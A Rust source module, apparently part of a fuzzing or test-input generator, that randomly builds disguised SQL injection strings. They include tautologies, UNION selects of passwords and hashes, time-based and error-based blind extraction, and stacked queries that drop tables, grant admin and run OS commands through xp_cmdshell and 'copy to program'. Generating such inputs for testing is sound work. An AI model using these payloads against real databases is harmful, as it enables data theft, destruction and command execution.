//! SQL: leave the value, add a condition, a query or a delay, and make the rest of the statement harmless.

use super::super::random::Draw;
use super::{disguise, one};

/// An injection.
pub fn text(draw: &mut Draw) -> String {
    let quote = one(draw, &["'", "'", "'", "\"", "", "')", "'))", "\")", ")"]);
    let start = start(draw);
    let middle = match draw.below(9) {
        0 | 1 => format!(
            " {} {}",
            one(draw, &["or", "and", "||", "&&", "xor"]),
            truth(draw, quote)
        ),
        2 | 3 => union(draw),
        4 => delay(draw),
        5 => error(draw),
        6 => stacked(draw),
        7 => subquery(draw),
        _ => format!(" order by {}", 1 + draw.below(40)),
    };
    let end = one(draw, &["-- ", "--", "#", "-- -", "/*", "", ";%00", "-- x"]);
    let text = format!("{start}{quote}{middle}{end}");
    disguise::sql(&text, draw)
}

fn start(draw: &mut Draw) -> String {
    match draw.below(5) {
        0 => String::new(),
        1 => draw.below(9_999).to_string(),
        2 => format!("-{}", draw.below(9_999)),
        3 => one(draw, &["x", "admin", "lamp", "test", "abc"]).to_owned(),
        _ => "1".to_owned(),
    }
}

fn truth(draw: &mut Draw, quote: &str) -> String {
    let n = draw.below(9_000);
    let word = draw.hex(4);
    match draw.below(9) {
        0 => format!("{n}={n}"),
        1 if quote.starts_with(['\'', '"']) => {
            let mark = if quote.starts_with('\'') { '\'' } else { '"' };
            format!("{mark}{word}{mark}={mark}{word}")
        }
        2 => format!("{n}<{}", n + 1),
        3 => "true".to_owned(),
        4 => format!("{n} between {} and {}", n.saturating_sub(1), n + 1),
        5 => format!("'{word}' like '{}%'", word.get(..2).unwrap_or_default()),
        6 => format!("{n} in ({n},{})", n + 3),
        7 => "not false".to_owned(),
        _ => format!("length('{word}')=4"),
    }
}

fn union(draw: &mut Draw) -> String {
    let columns = 1 + draw.below(9);
    let wanted = draw.below(columns);
    let list: Vec<String> = (0..columns)
        .map(|index| {
            if index == wanted {
                target(draw)
            } else {
                one(draw, &["null", "1", "0x61", "'a'"]).to_owned()
            }
        })
        .collect();
    let table = one(
        draw,
        &[
            "users",
            "information_schema.tables",
            "accounts",
            "pg_catalog.pg_tables",
            "sqlite_master",
            "dual",
            "mysql.user",
        ],
    );
    let all = one(draw, &["", "", " all", " distinct"]);
    format!(" union{all} select {} from {table}", list.join(","))
}

fn target(draw: &mut Draw) -> String {
    one(
        draw,
        &[
            "password",
            "@@version",
            "version()",
            "user()",
            "table_name",
            "group_concat(email)",
            "concat(login,0x3a,hash)",
            "database()",
            "current_user",
        ],
    )
    .to_owned()
}

fn delay(draw: &mut Draw) -> String {
    let seconds = 2 + draw.below(12);
    let join = one(draw, &["and", "or"]);
    match draw.below(6) {
        0 => format!(" {join} sleep({seconds})"),
        1 => format!("; waitfor delay '0:0:{seconds}'"),
        2 => format!(" {join} (select pg_sleep({seconds})) is null"),
        3 => format!(
            " {join} if(ascii(substr(user(),{},1))>{},sleep({seconds}),0)",
            1 + draw.below(20),
            40 + draw.below(80)
        ),
        4 => format!(
            " {join} benchmark({}000000,md5({}))",
            seconds * 5,
            draw.below(100)
        ),
        _ => format!(
            " {join} (select count(*) from all_users t1,all_users t2,all_users t3)>{seconds}"
        ),
    }
}

fn error(draw: &mut Draw) -> String {
    let n = draw.below(9_000);
    match draw.below(4) {
        0 => format!(
            " and extractvalue({n},concat(0x7e,(select {})))",
            target(draw)
        ),
        1 => format!(" and updatexml(1,concat(0x7e,{}),{n})", target(draw)),
        2 => format!(" and 1=cast((select {}) as int)", target(draw)),
        _ => format!(" and 1=convert(int,(select top 1 name from sys.objects where id>{n}))"),
    }
}

fn stacked(draw: &mut Draw) -> String {
    match draw.below(5) {
        0 => format!(
            "; drop table {}",
            one(draw, &["users", "orders", "sessions"])
        ),
        1 => "; update users set role='admin' where login='x'".to_owned(),
        2 => format!("; insert into users values({},'x','y')", draw.below(900)),
        3 => "; exec xp_cmdshell 'whoami'".to_owned(),
        _ => "; copy (select '') to program 'id'".to_owned(),
    }
}

fn subquery(draw: &mut Draw) -> String {
    let column = target(draw);
    match draw.below(3) {
        0 => format!(
            " and (select count({column}) from users)>{}",
            draw.below(50)
        ),
        1 => format!(
            " and exists(select {column} from users where id={})",
            draw.below(90)
        ),
        _ => format!(
            " and ascii(substring((select {column} from users limit 1 offset {}),{},1))>{}",
            draw.below(9),
            1 + draw.below(30),
            32 + draw.below(90)
        ),
    }
}
